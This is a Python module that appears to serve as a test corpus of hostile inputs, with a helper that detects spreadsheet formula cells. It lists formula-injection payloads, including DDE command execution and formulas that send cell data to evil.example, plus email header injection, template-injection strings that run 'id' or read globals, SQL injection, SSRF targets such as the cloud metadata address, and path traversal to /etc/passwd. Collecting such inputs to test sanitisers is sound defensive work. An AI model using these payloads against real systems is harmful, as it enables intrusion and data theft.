"""What somebody may write who wants it to be more than text, by what it would have to become."""

from __future__ import annotations

import unicodedata
from itertools import product
from typing import Final

MARK: Final = "1787569"
"""What 1337 * 1337 is: where it is read, a template was worked out."""

SIGNS = ("=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20")
BEFORE = (
    "", " ", "\t", "\r", "\n", "\r\n", "\0", "\u00a0", "\u2003", "\u3000", "\u200b", "\u200f",
    "\ufeff", "\u202e", "\x1f",
)  # fmt: skip
FORMULAS: Final = (
    *(f"{before}{sign}1+1" for before, sign in product(BEFORE, SIGNS)),
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example?x="&A1,"click")',
    "@SUM(1+1)*cmd|' /C x'!A0",
    '=IMPORTXML(CONCAT("http://evil.example/",A1),"//a")',
    '=WEBSERVICE("http://evil.example")',
    "+1\";=cmd|' /C calc'!A0",
    'x",=1+1,"',
    'x"\r\n=1+1,"',
    "x;=1+1",
    "x\t=1+1",
    "=1\n=2",
    "-2+3+cmd|' /C x'!A0",
    '"=1+1"',
    '=DDE("cmd";"/C calc";"x")',
    "\t\t=1",
    "=1+1\0",
)

ENDS = (
    "\r\n",
    "\n",
    "\r",
    "\x0b",
    "\x0c",
    "\x1c",
    "\x1d",
    "\x1e",
    "\x85",
    "\u2028",
    "\u2029",
    "\0\n",
    "%0d%0a",
)
ADDED = ("Bcc: eve@evil.example", "\tBcc: eve@evil.example", "Content-Type: text/html\r\n\r\n<b>")
HEADERS: Final = (
    *(f"Hello{end}{added}" for end, added in product(ENDS, ADDED)),
    "Hello =?utf-8?q?=0d=0aBcc:_eve@evil.example?=", "Hello\r\n.\r\nMAIL FROM:<eve@evil.example>",
    "ada@b.example>\r\nRCPT TO:<eve@evil.example", 'Hello";filename="x\r\nBcc: eve@evil.example',
    "Hello\r\nATTENDEE:mailto:eve@evil.example", "Hello\nEND:VEVENT\nBEGIN:VEVENT",
)  # fmt: skip

TEMPLATES: Final = (
    "{{1337*1337}}",
    "{{ 1337 * 1337 }}",
    "{%print(1337*1337)%}",
    "{% if 1 %}{{1337*1337}}{% endif %}",
    "${1337*1337}",
    "#{1337*1337}",
    "<%= 1337*1337 %>",
    "{{=1337*1337}}",
    "*{1337*1337}",
    "@(1337*1337)",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{{ self.__init__.__globals__ }}",
    "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "{{ config }}",
    "{{ lipsum.__globals__ }}",
    "{{ request['application'] }}",
    "{% include '/etc/passwd' %}",
    "{% import 'os' as os %}",
    "{% extends '../../secret' %}",
    "{{ ''|attr('__class__') }}",
    "{# comment #}",
    "{% raw %}x{% endraw %}",
    "{{ namespace(x=1337*1337).x }}",
    "{%- set x = 1337*1337 -%}{{ x }}",
    "{{{{1337*1337}}}}",
    "%(password)s",
    "{0.__class__}",
    "{evidence}",
    "$(id)",
    "`id`",
    "{{",
    "}}",
    "{%",
    "{{ x",
)

SQL: Final = (
    "x'; drop table messages; --",
    'x"; drop table messages; --',
    "x`; drop table messages; --",
    "' or '1'='1",
    "1; select 1",
    "x' union select 1 --",
    "x); delete from messages; --",
    "x/*",
    "*/x",
    "x\\'; drop table messages; --",
    "x\0'; drop table messages; --",
    "$$; drop table messages; $$",
    "x]; drop table messages; --",
    "pg_sleep(9)",
    "'||pg_sleep(9)||'",
    "x' ; attach 'evil.db' as e; --",
    "{{ ref('messages') }}",
    "${x}",
    ":name",
    "%s",
    "?",
    "x'' or ''1''=''1",
    "\u02bc or 1=1",
    "x;--",
    "load_extension('evil')",
    "read_csv('/etc/passwd')",
    "../x",
    "x y",
    "X'00'",
    "select",
)

INSIDE: Final = (
    "http://169.254.169.254/latest/meta-data/",
    "https://169.254.169.254/",
    "https://127.0.0.1/",
    "https://127.1/",
    "https://2130706433/",
    "https://0x7f000001/",
    "https://0177.0.0.1/",
    "https://localhost/",
    "https://[::1]/",
    "https://[::]/",
    "https://0.0.0.0/",
    "https://10.0.0.1/",
    "https://172.16.0.1/",
    "https://192.168.0.1/",
    "https://100.64.0.1/",
    "https://[fe80::1]/",
    "https://[fc00::1]/",
    "https://[fd00:ec2::254]/",
    "https://[fec0::1]/",
    "https://[ff02::1]/",
    "https://[::ffff:127.0.0.1]/",
    "https://[::ffff:7f00:1]/",
    "https://[::ffff:169.254.169.254]/",
    "https://[64:ff9b::7f00:1]/",
    "https://[64:ff9b::a9fe:a9fe]/",
    "https://[2002:7f00:1::]/",
    "https://[2002:a9fe:a9fe::]/",
    "https://[2001:0:a00:1::]/",
    "https://[::7f00:1]/",
    "https://224.0.0.1/",
    "https://240.0.0.1/",
    "https://255.255.255.255/",
    "https://192.0.2.1/",
    "file:///etc/passwd",
    "ftp://127.0.0.1/x",
    "gopher://127.0.0.1:25/_MAIL",
    "dict://127.0.0.1:11211/",
    "ldap://127.0.0.1/",
    "data:text/plain,x",
    "https://user@127.0.0.1/",
    "https://1.1.1.1@127.0.0.1/",
    "https://127.0.0.1:22/",
    "//127.0.0.1/x",
    "https://127.0.0.1%2f@1.1.1.1.invalid/",
    "https:///127.0.0.1/",
    "javascript:alert(1)",
    "https://",
    "http://1.1.1.1/",
)
"""Where nobody but ourselves may send us; the last one is public, but not encrypted."""

CLIMBS: Final = (
    "../up",
    "../../etc/passwd",
    "/etc/passwd",
    "a/b",
    "a\\b",
    "..",
    ".",
    "",
    ".hidden",
    "a\0b",
    "~root",
    "~/x",
    "C:\\x",
    "\\\\host\\share",
    "a/../../b",
    "%2e%2e%2fup",
    "..%00",
    "a\nb",
    "con:",
    "x;y",
    "x y",
    "é",
    "-rf",
    "_x",
    "a.b",
    "file://x",
    "\u2215etc\u2215passwd",
    "a" * 5 + "/",
)

CORPUS: Final = {
    "formulas": FORMULAS, "headers": HEADERS, "templates": TEMPLATES, "sql": SQL, "inside": INSIDE,
    "climbs": CLIMBS,
}  # fmt: skip


def is_formula(cell: str) -> bool:
    """Whether some spreadsheet may calculate a cell; not made of what makes cells safe."""
    if cell[:1] in ("\t", "\r", "\n", "\0"):
        return True
    for sign in cell:
        if sign.isspace() or unicodedata.category(sign) in ("Cc", "Cf"):
            continue
        return unicodedata.normalize("NFKC", sign) in ("=", "+", "-", "@")
    return False
